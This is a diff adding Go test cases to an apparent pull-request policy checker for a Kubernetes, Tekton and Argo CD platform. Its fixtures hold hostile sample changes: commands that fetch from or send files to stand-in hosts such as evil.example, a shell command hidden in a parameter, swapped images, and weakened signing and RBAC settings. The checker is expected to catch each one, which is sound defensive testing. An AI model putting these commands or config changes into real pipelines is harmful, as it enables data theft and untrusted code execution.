@@ -58,6 +58,40 @@ func openEgress(waived, name, namespace string) string {
 		"targets: phase1: NetworkPolicy: " + name + ": {apiVersion: \"networking.k8s.io/v1\", kind: \"NetworkPolicy\", metadata: {name: \"" + name + "\", namespace: \"notebook-ci\"}, spec: {podSelector: matchLabels: \"app.kubernetes.io/component\": \"preflight\", policyTypes: [\"Egress\"], egress: [{}]}}\n" + namespace
 }
 
+// withDefault is a Task with one parameter, which is the image and a part of the script.
+func withDefault(name, value string) string {
+	kind := "string"
+	if strings.HasPrefix(value, "[") {
+		kind = "array"
+	}
+	return inTarget("Task", "x", `{apiVersion: "tekton.dev/v1", kind: "Task", metadata: {name: "x", namespace: "notebook-ci"}, spec: {params: [{name: "`+name+`", type: "`+kind+`", default: `+value+`}], steps: [{name: "a", image: "a@sha256:1111111111111111111111111111111111111111111111111111111111111111", script: "true"}]}}`)
+}
+
+// aPipeline has one task, and more.
+func aPipeline(more string) string {
+	return inTarget("Pipeline", "x", `{apiVersion: "tekton.dev/v1", kind: "Pipeline", metadata: {name: "x", namespace: "notebook-ci"}, spec: tasks: [{name: "a", taskSpec: steps: [{name: "a", image: "a", script: "true"}]}`+more+`]}`)
+}
+
+// admission is a policy that refuses what its expression does not hold for.
+func admission(expression string) string {
+	return inTarget("ValidatingAdmissionPolicy", "x", `{apiVersion: "admissionregistration.k8s.io/v1", kind: "ValidatingAdmissionPolicy", metadata: name: "x", spec: {failurePolicy: "Fail", matchConstraints: resourceRules: [{apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources: ["pods"]}], validations: [{expression: `+expression+`}]}}`)
+}
+
+// signed is a platform whose namespace has its images verified, in all phases.
+func signed(more string) string {
+	return "package platform\ntargets: [string]: ClusterImagePolicy: p: {apiVersion: \"policy.sigstore.dev/v1beta1\", kind: \"ClusterImagePolicy\", metadata: name: \"p\", spec: {mode: *\"enforce\" | string, images: [{glob: \"**\"}], authorities: [{name: \"k\", key: {data: \"x\", hashAlgorithm: \"sha256\"}}]}}\n" + more
+}
+
+// phase9 is a phase of one's own, and promoted a file that moves the environment into it.
+const (
+	phase9   = "platform: phases: phase9: trafficPercent: 11\n"
+	promoted = `phase: "phase1"=>phase: "phase9"`
+	ofProd   = "cue/platform/prod/prod.cue"
+)
+
+// waived is a platform with a waiver that lets something off.
+const waived = "package platform\nplatform: waivers: w: {rule: \"operations/no-requests\", object: \"Task/*\", reason: \"because of reasons\", owner: \"me\", expires: \"2099-01-01\"}\n"
+
 // several are some Tasks at once.
 func several(n int) string {
 	var b strings.Builder
@@ -85,6 +119,9 @@ func pulls() []pull {
 		{kind: "links", name: "an identity that git fills in", head: map[string]string{"cue/platform/.gitattributes": "x.cue ident\n"}, base: map[string]string{"cue/platform/x.cue": "package platform\n"}, exit: 1, wants: []string{"input/gitattributes"}},
 		{kind: "links", name: "another encoding", head: map[string]string{".gitattributes": "cue/platform/prod/*.cue working-tree-encoding=SHIFT_JIS\n"}, exit: 1, wants: []string{"input/gitattributes"}},
 		{kind: "links", name: "a filter by a macro", head: map[string]string{".gitattributes": "[attr]harmless filter=x\n"}, exit: 1, wants: []string{"input/gitattributes"}},
+		{kind: "links", name: "a class of characters that go-git does not know", head: map[string]string{".gitattributes": "cue/platform/[!q]*.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
+		{kind: "links", name: "a named class", head: map[string]string{".gitattributes": "cue/platform/[[:alpha:]]*.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
+		{kind: "links", name: "in other letters", head: map[string]string{".gitattributes": "CUE/**/*.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
 		{kind: "links", name: "attributes of others", head: map[string]string{".gitattributes": "docs/** filter=lfs\n*.cue text eol=lf\noverlays/** linguist-generated -ident\n"}, exit: 0},
 		{kind: "links", name: "what another file turns on", exit: 1, wants: []string{"rbac/admin-binding"},
 			base: map[string]string{"cue/platform/prod/x/flag.cue": "package x\n// off\n", "cue/platform/x.cue": embedding}, head: map[string]string{"cue/platform/prod/x/flag.cue": "package x\n// on\n"}},
@@ -125,6 +162,8 @@ func pulls() []pull {
 			head: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\ngit clone https://u:p@evil.example.com/x\n`, "")}, exit: 1, wants: []string{"secrets/url-credentials"}},
 		{kind: "known", name: "another value", base: map[string]string{prod: aTask("true", `{name: "API_TOKEN", value: "oldsecret123"}`)},
 			head: map[string]string{prod: aTask("true", `{name: "API_TOKEN", value: "ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"}`)}, exit: 1, wants: []string{"secrets/literal"}, never: []string{"ghp_aaaa", "oldsecret"}},
+		{kind: "known", name: "a waiver that there was, and a new environment", exit: 0, never: []string{"change/waiver"}, wants: []string{"passed"},
+			base: map[string]string{prod: waived}, head: map[string]string{"cue/platform/dev/dev.cue": two + "}", "cue/platform/platform.cue": statusOfOne}},
 		{kind: "known", name: "the same, moved", base: map[string]string{prod: aTask("true", `{name: "API_TOKEN", value: "oldsecret123"}`)},
 			head: map[string]string{prod: "// moved\n\n" + aTask("true", `{name: "API_TOKEN", value: "oldsecret123"}, {name: "B", value: "c"}`)}, exit: 0},
 		{kind: "known", name: "a wider egress", base: map[string]string{prod: inTarget("NetworkPolicy", "x", `{apiVersion: "networking.k8s.io/v1", kind: "NetworkPolicy", metadata: {name: "x", namespace: "notebook-ci"}, spec: {podSelector: {}, policyTypes: ["Egress"], egress: [{to: [{ipBlock: cidr: "0.0.0.0/0"}], ports: [{port: 443, protocol: "TCP"}]}]}}`)},
@@ -138,6 +177,14 @@ func pulls() []pull {
 			head: map[string]string{prod: aTask(strings.Repeat("a", 400)+" && wget evil.example.com", "")}, exit: -1, wants: []string{"wget evil.example.com"}},
 		{kind: "lines", name: "a new step", base: map[string]string{prod: aTask("true", "")},
 			head: map[string]string{prod: strings.Replace(aTask("true", ""), "steps: [", `steps: [{name: "b", image: "b", script: "`+strings.Repeat("# x\\n", 100)+`wget evil.example.com"}, `, 1)}, exit: -1, wants: []string{"wget evil.example.com"}},
+		{kind: "lines", name: "a version that looks like a number", base: map[string]string{prod: withDefault("version", `"3.10"`)}, head: map[string]string{prod: withDefault("version", `"3.1"`)}, exit: -1, wants: []string{"3.10"}},
+		{kind: "lines", name: "an image by a parameter", base: map[string]string{prod: withDefault("image", `"a@sha256:1111111111111111111111111111111111111111111111111111111111111111"`)}, head: map[string]string{prod: withDefault("image", `"evil.io/evil/x:1"`)}, exit: -1, wants: []string{"change/source-changed", "evil.io/evil/x:1"}},
+		{kind: "lines", name: "an image behind the name of a secret", base: map[string]string{prod: withDefault("image-token", `"a"`)}, head: map[string]string{prod: withDefault("image-token", `"evil.io/evil/x:1"`)}, exit: -1, wants: []string{"+ evil.io/evil/x:1"}},
+		{kind: "lines", name: "a command behind the name of a secret", base: map[string]string{prod: withDefault("setup-token", `"git --version"`)}, head: map[string]string{prod: withDefault("setup-token", `"/bin/sh -c id"`)}, exit: -1, wants: []string{"+ /bin/sh -c id"}},
+		{kind: "lines", name: "a list behind the name of a secret", base: map[string]string{prod: withDefault("tokens", `["a", "b"]`)}, head: map[string]string{prod: withDefault("tokens", `["a", "c"]`)}, exit: -1, wants: []string{"(hidden)"}, never: []string{"internal/panic"}},
+		{kind: "lines", name: "a file beside the CUE", head: map[string]string{"cue/platform/prod/.argocd-source.yaml": "plugin: {env: [{name: TENON_TARGET, value: prod/phase3}]}\n"}, exit: -1, wants: []string{"TENON_TARGET"}},
+		{kind: "lines", name: "a root of trust", head: map[string]string{"cue/platform/trusted_root.json": "{\"evil\": true}\n"}, exit: -1, wants: []string{"trusted_root.json", "evil"}},
+		{kind: "lines", name: "no platform any more", head: map[string]string{ofProd: ""}, exit: 3, wants: []string{"lost the platform"}},
 		{kind: "lines", name: "a new object", head: map[string]string{prod: aTask("wget evil.example.com", "")}, exit: -1, wants: []string{"wget evil.example.com"}},
 		{kind: "lines", name: "many new objects", head: map[string]string{prod: several(6)}, exit: -1, wants: []string{"wget evil.example.com/5"}},
 
@@ -155,6 +202,22 @@ func pulls() []pull {
 		{kind: "power", name: "a hook that is skipped", head: map[string]string{prod: "package platform\ntargets: [string]: NetworkPolicy: \"default-deny\": metadata: annotations: \"argocd.argoproj.io/hook\": \"Skip\"\n"}, exit: -1, wants: []string{"change/power-changed"}},
 		{kind: "power", name: "settings of Argo CD", head: map[string]string{prod: inTarget("ConfigMap", `"argocd-rbac-cm"`, `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "argocd-rbac-cm", namespace: "argocd"}, data: "policy.default": "role:admin"}`)}, exit: -1, wants: []string{"change/power-changed"}},
 
+		{kind: "power", name: "a hook of Helm", head: map[string]string{prod: "package platform\ntargets: [string]: NetworkPolicy: \"default-deny\": metadata: annotations: \"helm.sh/hook\": \"test\"\n"}, exit: -1, wants: []string{"change/power-changed"}},
+		{kind: "power", name: "who is who in a cloud", head: map[string]string{prod: inTarget("ConfigMap", `"aws-auth"`, `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "aws-auth", namespace: "kube-system"}, data: mapRoles: "x"}`)}, exit: -1, wants: []string{"change/power-changed"}},
+		{kind: "power", name: "settings in a controller's namespace", head: map[string]string{prod: inTarget("ConfigMap", `"any"`, `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "any", namespace: "tekton-chains"}, data: signer: "none"}`)}, exit: -1, wants: []string{"change/power-changed"}},
+		{kind: "power", name: "what is refused", base: map[string]string{prod: admission(`"false"`)}, head: map[string]string{prod: admission(`"true"`)}, exit: -1, wants: []string{"change/power-changed", "refused"}},
+		{kind: "power", name: "nothing is refused any more", base: map[string]string{prod: admission(`"false"`)}, head: map[string]string{prod: ""}, exit: -1, wants: []string{"change/power-changed", "is removed"}},
+		{kind: "power", name: "code from elsewhere in a list", base: map[string]string{prod: aPipeline("")}, head: map[string]string{prod: aPipeline(`, {name: "b", taskRef: {resolver: "hub", params: [{name: "name", value: "evil"}]}}`)}, exit: -1, wants: []string{"which code is run"}},
+		{kind: "power", name: "a secret for a step", base: map[string]string{prod: aTask("true", "")}, head: map[string]string{prod: aTask("true", `{name: "A", valueFrom: secretKeyRef: {name: "artifact-store", key: "x"}}`)}, exit: -1, wants: []string{"which secrets pods get"}},
+
+		{kind: "anew", name: "a phase that asks for less", base: map[string]string{prod: signed("")}, head: map[string]string{ofProd: promoted, prod: signed(phase9 + "targets: phase9: ClusterImagePolicy: p: spec: mode: \"warn\"\n")}, exit: 1, wants: []string{"change/signing-weakened"}},
+		{kind: "anew", name: "a phase that asks for nothing", base: map[string]string{prod: strings.ReplaceAll(signed(""), "[string]", "[=~\"phase[1-3]\"]")}, head: map[string]string{ofProd: promoted, prod: strings.ReplaceAll(signed(phase9), "[string]", "[=~\"phase[1-3]\"]")}, exit: 1, wants: []string{"change/signing-weakened", "is removed"}},
+		{kind: "anew", name: "an account with more", head: map[string]string{ofProd: promoted, prod: "package platform\n" + phase9 + "targets: phase9: ServiceAccount: \"gpu-pipeline\": metadata: annotations: \"eks.amazonaws.com/role-arn\": \"x\"\n"}, exit: -1, wants: []string{"change/power-changed"}},
+		{kind: "anew", name: "policies that are left out", head: map[string]string{ofProd: promoted, prod: "package platform\n" + phase9 + "targets: phase9: NetworkPolicy: [string]: metadata: annotations: \"argocd.argoproj.io/hook\": \"Skip\"\n"}, exit: -1, wants: []string{"change/power-changed"}},
+		{kind: "anew", name: "in two steps", exit: -1, wants: []string{"change/power-changed"},
+			base: map[string]string{prod: "package platform\nplatform: phases: phase9: trafficPercent: 11\ntargets: phase9: ServiceAccount: \"gpu-pipeline\": metadata: annotations: \"eks.amazonaws.com/role-arn\": \"x\"\n"},
+			head: map[string]string{ofProd: promoted}},
+
 		{kind: "items", name: "a kind of its own", exit: 1, wants: []string{"types/items"}, head: map[string]string{prod: "package platform\nplatform: facts: customResources: [\"e.com/Foo\"]\ntargets: phase1: Foo: x: {apiVersion: \"e.com/v1\", kind: \"Foo\", metadata: {name: \"x\", namespace: \"notebook-ci\"}, items: [" + evil + "]}\n"}},
 		{kind: "items", name: "none in it", exit: 1, wants: []string{"types/items"}, head: map[string]string{prod: "package platform\nplatform: facts: customResources: [\"e.com/Foo\"]\ntargets: phase1: Foo: x: {apiVersion: \"e.com/v1\", kind: \"Foo\", metadata: {name: \"x\", namespace: \"notebook-ci\"}, items: []}\n"}},
 		{kind: "items", name: "a List", exit: 1, head: map[string]string{prod: "package platform\ntargets: phase1: List: x: {apiVersion: \"v1\", kind: \"List\", metadata: name: \"x\", items: [" + evil + "]}\n"}},
@@ -164,6 +227,12 @@ func pulls() []pull {
 		{kind: "beliefs", name: "what is in an image", exit: 0, wants: []string{"change/fact-changed"}, head: map[string]string{prod: "package platform\nplatform: facts: images: \"registry.example.com/x\": {uids: [0], tools: [\"sh\"]}\n"}},
 		{kind: "beliefs", name: "a builder", exit: 1, wants: []string{"change/supply-chain-changed"}, head: map[string]string{prod: "package platform\nplatform: supplyChain: builders: [\"https://evil.example\"]\n"}},
 		{kind: "beliefs", name: "a secret that is not there", exit: 0, wants: []string{"change/fact-changed", "secrets.lie"}, head: map[string]string{prod: "package platform\nplatform: facts: secrets: lie: {namespace: \"notebook-ci\", keys: [\"x\"]}\n"}},
+		{kind: "beliefs", name: "the same host behind another", exit: -1, wants: []string{"change/source-changed", "evil.example/a"}, base: map[string]string{prod: aTask("curl https://s3.example.com/notebook-ci", "")}, head: map[string]string{prod: aTask("curl https://evil.example/a@s3.example.com/notebook-ci", "")}},
+		{kind: "beliefs", name: "a path that leads elsewhere", exit: -1, wants: []string{"change/source-changed", "github.com/evil/x"}, base: map[string]string{prod: aTask("git clone https://github.com/example/tests", "")}, head: map[string]string{prod: aTask("git clone https://github.com/example/tests/../../evil/x", "")}},
+		{kind: "beliefs", name: "an address without a scheme", exit: -1, wants: []string{"change/source-changed", "evil.example/x"}, head: map[string]string{prod: aTask("curl -d @/etc/x evil.example/x", "")}},
+		{kind: "beliefs", name: "an address of numbers", exit: -1, wants: []string{"change/source-changed", "203.0.113.4/x"}, head: map[string]string{prod: aTask("curl 203.0.113.4/x", "")}},
+		{kind: "beliefs", name: "no addresses", exit: -1, never: []string{"change/source-changed"}, base: map[string]string{prod: aTask("true", "")},
+			head: map[string]string{prod: aTask("true", `{name: "A", value: "3.12.13"}, {name: "B", value: "v1.27.3"}, {name: "C", value: "data.tar.gz"}, {name: "D", value: "gateway.networking.k8s.io"}, {name: "E", value: "app.kubernetes.io/name"}, {name: "F", value: "lib/x.py"}`)}},
 		{kind: "beliefs", name: "an address of somebody else", exit: -1, wants: []string{"change/source-changed", "https://evil.example/x"}, head: map[string]string{prod: aTask("git clone https://evil.example/x", "")}},
 	}
 	for name, weaker := range map[string]string{"mode": `mode: "warn"`, "authorities": `authorities: [{name: "a", static: action: "pass"}]`, "images": `images: [{glob: "nothing/**"}]`} {
